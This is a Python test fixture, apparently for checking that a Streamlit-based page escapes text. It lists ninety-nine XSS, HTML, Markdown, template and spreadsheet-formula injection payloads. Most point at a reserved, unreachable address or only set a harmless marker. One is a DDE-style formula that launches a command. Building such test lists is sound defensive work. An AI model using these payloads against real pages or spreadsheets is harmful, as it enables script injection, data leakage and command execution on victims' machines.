"""Ninety-nine words that would run a script, fetch something from outside or be read as markup, where a page lets them.

A script that ran sets `window.owned`; what is fetched lies at an address that no machine has (RFC 5737).
"""

from __future__ import annotations

OUTSIDE = "198.51.100.7"
_RUN = "window.owned=1"
_AT = f"http://{OUTSIDE}/p"

PAYLOADS = (
    # elements that run a script, by themselves or when they fail to load
    f"<script>{_RUN}</script>", f"<ScRiPt>{_RUN}</sCrIpT>", f"<script src={_AT}.js></script>", f"</script><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>", f"</style><script>{_RUN}</script>", f"</title><script>{_RUN}</script>", f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>", f"<scr<script>ipt>{_RUN}</scr</script>ipt>", f"<img src=x onerror={_RUN}>", f"<img src=x onerror='{_RUN}'//",
    f"<img/src=x/onerror={_RUN}>", f"<IMG SRC=x OnErRoR={_RUN}>", f"<svg onload={_RUN}>", f"<svg/onload={_RUN}>", f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>", f"<body onload={_RUN}>", f"<body onpageshow={_RUN}>", f"<iframe onload={_RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN[7:]}</script>'></iframe>", f"<iframe src=javascript:parent.{_RUN[7:]}></iframe>", f"<video onerror={_RUN}><source></video>",
    f"<audio src=x onerror={_RUN}>", f"<object data=x onerror={_RUN}></object>", f"<embed src=x onload={_RUN}>", f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}>", f"<textarea autofocus onfocus={_RUN}>", f"<details open ontoggle={_RUN}>x</details>", f"<marquee onstart={_RUN}>x</marquee>",
    f"<div onpointerover={_RUN} style='position:fixed;inset:0'>x</div>", f"<a autofocus tabindex=1 onfocus={_RUN}>x</a>", f"<math><mi href=javascript:{_RUN}>x</mi></math>",
    f"<form action=javascript:{_RUN}><button autofocus>x</button></form>", f"<base href=javascript:{_RUN}//>", f"<meta http-equiv=refresh content='0;url={_AT}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>", f"<template><script>{_RUN}</script></template>", f"<noscript><img src=x onerror={_RUN}></noscript>",
    f"<table background={_AT}.png><tr><td>x", f"<style>@import '{_AT}.css';</style>", f"<style>*{{background:url({_AT}.png)}}</style>",
    # out of an attribute or a string
    f"\" onmouseover={_RUN} x=\"", f"' onfocus={_RUN} autofocus x='", f"\"><img src=x onerror={_RUN}>", f"'><svg onload={_RUN}>", f"`-{_RUN}-`", f"';{_RUN}//", f"\";{_RUN}//",
    f"\\';{_RUN}//", f"${{{_RUN}}}", f"{{{{{_RUN}}}}}", f"#{{{_RUN}}}", f"<%= {_RUN} %>", f"{{% raw %}}{_RUN}", f"\u2028{_RUN}", f"javascript:{_RUN}", f"data:text/html,<script>{_RUN}</script>",
    # what fetches a picture, style or page
    f"<img src={_AT}.png>", f"<img srcset='{_AT}.png 1x'>", f"<picture><source srcset={_AT}.png><img></picture>", f"<link rel=stylesheet href={_AT}.css>",
    f"<link rel=prefetch href={_AT}>", f"<link rel=dns-prefetch href=//{OUTSIDE}>", f"<iframe src={_AT}></iframe>", f"<video poster={_AT}.png></video>",
    f"<audio src={_AT}.mp3 autoplay>", f"<object data={_AT}></object>", f"<embed src={_AT}>", f"<svg><image href={_AT}.png /></svg>", f"<svg><use href={_AT}.svg#x /></svg>",
    f"<div style='background:url({_AT}.png)'>x</div>", f"<input type=image src={_AT}.png>", f"<script>fetch('{_AT}')</script>", f"<a ping={_AT} href=#x>x</a>",
    # Markdown, and what Streamlit adds to it
    f"![x]({_AT}.png)", f"![x](<{_AT}.png>)", f"![x][1]\n\n[1]: {_AT}.png", f"[![x]({_AT}.png)]({_AT})", f"[x](javascript:{_RUN})", f"[x](javascript&#58;{_RUN})",
    f"<{_AT}>", f"[x](data:text/html,<script>{_RUN}</script>)", f"![x](http:&#47;&#47;{OUTSIDE}&#47;p.png)", ":red[red] :material/delete: :smile:", "# heading", "- [ ] list",
    "> quoted", "**bold** _cursive_ ~~struck~~", "`code`", "```\ncode\n```", "| a | b |\n|---|---|", f"$\\href{{{_AT}}}{{x}}$", f"$$\\includegraphics{{{_AT}.png}}$$", ":badge[x]",
    # formulas of spreadsheets
    f"=HYPERLINK(\"{_AT}\",\"x\")", "@SUM(1)|cmd|' /C calc'!A0",
)  # fmt: skip
